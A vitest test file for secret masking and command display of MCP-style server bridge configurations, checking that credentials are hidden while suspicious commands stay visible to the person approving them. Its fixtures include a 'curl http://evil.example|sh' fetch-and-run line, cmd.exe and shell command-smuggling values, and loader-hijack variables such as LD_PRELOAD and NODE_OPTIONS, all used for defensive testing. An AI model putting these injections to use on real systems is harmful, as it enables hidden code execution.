import { describe, expect, test } from 'vitest';
import { secretMask } from '../../../../../src/core/secret-mask.js';
import { secretsOf } from '../../../../../src/core/settings/bridges/bridge-secrets.js';
import {
  describeTarget,
  printedBridge,
} from '../../../../../src/core/settings/bridges/describe-bridge.js';
import type { BridgeConfig } from '../../../../../src/core/settings/device-config.js';

const stdio = (more: { env?: Record<string, string>; args?: readonly string[] }): BridgeConfig => ({
  alias: 'mail',
  transport: 'stdio',
  command: 'npx',
  args: [],
  env: {},
  timeLimitSeconds: 10,
  ...more,
});
const http = (url: string, headers: Record<string, string> = {}): BridgeConfig => ({
  alias: 'far',
  transport: 'http',
  url,
  headers,
  timeLimitSeconds: 10,
});

/** What a server may say of a bridge, masked as it would be. */
const said = (bridge: BridgeConfig, text: string): string => secretMask(secretsOf(bridge))(text);

describe('a value of the environment', () => {
  test.each([
    ['SMTP_PASS', 'swordfish'],
    ['API_KEY', 'ab12'],
    ['PIN', '4711'],
    ['githubToken', 'plain'],
    ['LOGIN', 'swordfish-4711'],
    ['ACCOUNT', 'a1B2c3D4'],
    ['WEBHOOK', 'https://hooks.example.com/services'],
    ['SERVER', 'https://example.com/mcp?key=abc123def'],
    ['DATABASE', 'postgres://jane:secret@db.example.com/mail'],
    ['SETTINGS', '{"apiKey":"swordfish"}'],
    ['ADMIN_PIN', '4711'],
    ['AUTHORIZATION', 'abc1'],
  ])('%s=%s is hidden', (name, value) => {
    expect(said(stdio({ env: { [name]: value } }), `It is ${value}.`)).not.toContain(value);
  });

  test.each([
    ['DEBUG', '1'],
    ['USE_KEYS', 'true'],
    ['LANG', 'en_US.UTF-8'],
    ['NODE_ENV', 'production'],
    ['HOME', '/home/jane/My notes (2)'],
    ['VAULT', 'C:\\Users\\Jane\\Vault'],
    ['SMTP_HOST', 'smtp.example.com:587'],
    ['SMTP_USER', 'jane.doe@example.com'],
    ['BASE_URL', 'https://api.example.com/v1/mcp'],
    ['LIMIT', '30000'],
    ['MAX_TOKENS', '1000'],
    ['AUTH_TYPE', 'user'],
    ['TOKEN_METHOD', 'implicit'],
    ['SESSION_TIMEOUT', '3000'],
    ['SESSION_TTL', '3600s'],
    ['COOKIE_MAX_AGE', '86400'],
    ['AUTHOR', 'Jane'],
    ['AUTHORITY', 'https://login.example.com'],
    ['DATABASE', 'postgres://postgres@localhost/mail'],
  ])('%s=%s is not: answers stay readable', (name, value) => {
    expect(said(stdio({ env: { [name]: value } }), `It is ${value}.`)).toBe(`It is ${value}.`);
  });

  test.each([
    ['DATABASE_URL', 'host=db user=app password=hunter2pass'],
    ['CONNECTION', 'Server=db;User Id=sa;Password="hunter2pass";'],
    ['OTEL_EXPORTER_OTLP_HEADERS', 'x=1,api-key=hunter2pass'],
    ['HTTP_COOKIE', 'theme=dark; sid=hunter2pass'],
    ['SETTINGS', 'user: jane\npassword: hunter2pass\n'],
  ])('a secret in the list %s=%s is hidden by itself', (name, value) => {
    expect(said(stdio({ env: { [name]: value } }), 'It is hunter2pass.')).toBe('It is •••.');
    expect(said(http('https://example.com', { Cookie: value }), 'hunter2pass')).toBe('•••');
  });

  test('that is short is hidden where it stands alone', () => {
    const bridge = stdio({ env: { PIN: '4711' } });
    expect(said(bridge, 'pin 4711, order 847113')).toBe('pin •••, order 847113');
  });

  test('is hidden with each part that a server repeats alone: a scheme, a login, a line of a key', () => {
    const login = Buffer.from('jane:swörd fish').toString('base64');
    const bridge = http('https://example.com/mcp', {
      Authorization: `Basic ${login}`,
      'X-Token': 'Bearer swordfish',
    });
    expect(said(bridge, `jane:swörd fish, swörd fish, ${login}, swordfish`)).toBe(
      '•••, •••, •••, •••',
    );
    const key = stdio({ env: { KEY: '-----BEGIN-----\nabcdefghijkl\nmnopqrstuvwx\n' } });
    expect(said(key, 'line 2: mnopqrstuvwx!')).toBe('line 2: •••!');
  });

  test('is hidden with the colours of a terminal within, and costs little in a long text', () => {
    const bridge = stdio({ env: { TOKEN: 'abcdefghijklmnop' } });
    expect(said(bridge, 'abcdef\u001b[31mghijkl\u200bmnop!')).toBe('•••!');
    const long = ' \n'.repeat(1_000_000);
    expect(said(bridge, long)).toBe(long);
  });
});

describe('a command line or address is shown without', () => {
  test.each<[string[], string]>([
    [['--token=abc1', '--port', '8080'], 'npx --token=••• --port 8080'],
    [['--api-key', 'Abc1', 'run'], 'npx --api-key ••• run'],
    [['-e', 'API_TOKEN=abc1', 'server'], 'npx -e API_TOKEN=••• server'],
    [['--header', 'Authorization: Bearer abc1'], 'npx --header Authorization: •••'],
    [['host=db user=app password=abc1'], 'npx host=db user=app password=•••'],
    [['Server=db;User Id=sa;Password=abc1;'], 'npx Server=db;User Id=sa;Password=•••;'],
    [['--header', 'x-a: 1, x-api-key: abc1'], 'npx --header x-a: 1, x-api-key: •••'],
    [['--header=X-Api-Key:abc1'], 'npx --header=X-Api-Key:•••'],
    [['--config', '{"apiKey":"abc1"}'], 'npx --config {"apiKey":"•••"}'],
    [['https://example.com/?api_key=abc1&n=1'], 'npx https://example.com/?api_key=•••&n=1'],
    [['redis://jane:abc1@example.com'], 'npx redis://•••@example.com'],
    [['--header', 'Authorization: token abc1'], 'npx --header Authorization: •••'],
    [['https://aB3dE5gH:x@example.com/mcp'], 'npx https://•••@example.com/mcp'],
    [['--token=abc1', '/home/jäne/My notes (2)'], 'npx --token=••• /home/jäne/My notes (2)'],
    [
      [
        '-u',
        '1000:1000',
        '-p',
        '8080:80',
        '--max-tokens',
        '1000',
        '-u',
        'node:node',
        '--user=node:node',
      ],
      'npx -u 1000:1000 -p 8080:80 --max-tokens 1000 -u node:node --user=node:node',
    ],
    [
      ['-p', '@scope/server@1.2.3', '--model', 'Qwen/Qwen2.5-Coder-32B-Instruct', 'createUser2Fa'],
      'npx -p @scope/server@1.2.3 --model Qwen/Qwen2.5-Coder-32B-Instruct createUser2Fa',
    ],
    [
      ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '--root', '/home/jane/notes'],
      'npx -y @modelcontextprotocol/server-filesystem@2025.8.21 --root /home/jane/notes',
    ],
  ])('%j', (args, shown) => {
    expect(describeTarget(stdio({ args }))).toBe(shown);
  });

  test.each([
    ['https://example.com/mcp?key=abc1', 'https://example.com/mcp?key=•••'],
    [
      'https://example.com/s/a1b2c3d4e5f6a7b8c9/mcp?profile=mine',
      'https://example.com/s/•••/mcp?profile=mine',
    ],
  ])('%s', (url, shown) => {
    expect(describeTarget(http(url))).toBe(shown);
  });

  test.each<[string[], string]>([
    [['ghp_abcdefghij0123456789'], 'bad ghp_abcdefghij0123456789'],
    [['-u', 'joe:swordfish'], 'bad swordfish'],
    [['--user=joe:swordfish'], 'bad swordfish'],
    [['-p', 'abc123XY'], 'bad abc123XY'],
    [['--api-key', 'abc1'], 'bad abc1'],
    [['server.js', 'Sw0rdfish!'], 'bad Sw0rdfish!'],
    [['server.js', 'hX9kQ2pLm'], 'bad hX9kQ2pLm'],
    [['https://example.com/s/hX9kQ2pLm/v1'], 'bad hX9kQ2pLm'],
  ])(
    '%j is no such secret where a person confirms it, but what its server repeats is',
    (args, answer) => {
      expect(describeTarget(stdio({ args }))).toBe(`npx ${args.join(' ')}`);
      expect(said(stdio({ args }), answer)).toBe('bad •••');
    },
  );

  test('and what its server repeats of them is hidden', () => {
    expect(said(stdio({ args: ['--token=abc1def'] }), 'bad abc1def')).toBe('bad •••');
    expect(said(http('https://example.com/?key=a%2Fb%3Dc1'), 'bad a/b=c1')).toBe('bad •••');
  });
});

describe('whoever confirms a server sees', () => {
  const evil = '/vault/.x/evil.js';
  test.each<[string, string[], Record<string, string>?]>([
    ['a program that a variable repeats', ['npx-mail'], { TOKEN: 'npx-mail' }],
    ['a path that a variable repeats', [evil], { PASSWORD: evil }],
    ['a script that a variable repeats', ['-c', 'curl evil.example'], { KEY: 'curl evil.example' }],
    ['a path that an option says is secret', [`--token=${evil}`, '--password', 'C:\\Evil']],
    [
      'a file or host that an option says is secret',
      ['--key', 'Evil.js', '--token=evil.example:80'],
    ],
    ['a package behind an option that npx does not know', ['--api-key', 'evil', 'server']],
    ['a package at another place', ['--secret', 'Gist:1a2b3c']],
    ['what cmd.exe puts in', ['/c', 'set', 'token=evil&call', 'npx', '%token%']],
    ['what it puts in later', ['/v:on', '/c', 'set', 'token=evil&npx', '!token!']],
    ['what a second command is', ['/c', 'npx', 'example', '--token', 'A&evil']],
    ['what is in a script', ['-c', 'token=evil; $token']],
    ['what a script may use', ['-c', '"$1"', '--token', 'Evil']],
    ['what runs behind a name', ['-c', 'alias.token=!evil', 'token']],
    ['a program that a script of names hides', ['-e', 'token="evil";system token']],
    ['a host within a script', ['-c', 'curl http://evil.example|sh;x@example.com']],
    ['the host of a URL', ['https://evil.example\\@example.com/']],
    ['a package by its random name', ['https://example.com/a1b2c3d4e5f6', '-p', 'x1y2z3a4']],
  ])('%s', (_, args, env = {}) => {
    expect(describeTarget(stdio({ args, env }))).toBe(['npx', ...args].join(' '));
    expect(printedBridge(stdio({ args, env }))).toMatchObject({ command: 'npx', args });
  });

  test.each([
    ['https://evil.example/mcp', { 'X-Token': 'evil.example' }],
    ['https://example.com/tenant-evil', { 'X-Token': 'tenant-evil' }],
    ['https://a1b2c3d4e5f6g7.example\\/mcp?key=a1b2c3d4e5f6g7.example', {}],
  ])('%s, whole', (url, headers) => {
    const shown = describeTarget(http(url, headers));
    expect(shown).toBe(url);
    expect(printedBridge(http(url, headers))).toHaveProperty('url', shown);
  });

  test.each([
    'NODE_OPTIONS',
    'NODE_PATH',
    'LD_PRELOAD',
    'LD_LIBRARY_PATH',
    'DYLD_INSERT_LIBRARIES',
    'PYTHONPATH',
    'PYTHONSTARTUP',
    'Path',
    'BASH_ENV',
    'ENV',
    'PERL5OPT',
    'RUBYOPT',
    'npm_config_registry',
  ])('the variable %s, which changes what is run', (name) => {
    const env = { [name]: `--require ${evil}`, OTHER: 'x', PASSWORD: evil };
    expect(describeTarget(stdio({ env }))).toBe(`npx, with ${name}=--require ${evil}`);
  });

  test('an argument that another one repeats', () => {
    expect(describeTarget(stdio({ args: ['Evil1', '--secret', 'Evil1'] }))).toBe(
      'npx Evil1 --secret •••',
    );
  });

  test('of such a variable no secret', () => {
    const env = { npm_config__authToken: 'abc1', npm_config_registry: 'https://x:y@example.com' };
    expect(describeTarget(stdio({ env }))).toBe(
      'npx, with npm_config__authToken=•••, with npm_config_registry=https://•••@example.com',
    );
  });
});
